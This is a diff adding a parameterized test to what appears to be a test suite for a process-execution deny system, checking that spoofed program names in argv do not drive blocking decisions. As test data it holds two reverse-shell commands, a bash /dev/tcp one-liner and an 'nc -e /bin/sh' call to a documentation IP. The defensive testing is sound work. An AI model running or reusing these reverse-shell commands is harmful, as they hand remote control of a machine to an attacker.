@@ -261,6 +261,15 @@ describe("who chooses what is denied", () => {
     },
   );
 
+  it.each(["/usr/bin/sudo", "/", process.execPath, "/opt/x", "git"])(
+    "an attacker whose shell runs under the name %s is blocked, and denies nothing",
+    async (name) => {
+      const argv = [name, "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"];
+      const { written, why } = await enforced(exec(argv, "/usr/bin/bash"));
+      expect({ written, why }).toEqual({ written: [], why: "program-from-argv" });
+    },
+  );
+
   it("a block of the built-in rules denies the program that the kernel reported", async () => {
     const { written } = await enforced(exec(["/usr/bin/nc", "-e", "/bin/sh", "192.0.2.1"], "/tmp/.x/sh"));
     expect(written).toEqual(["/tmp/.x/sh\n"]);
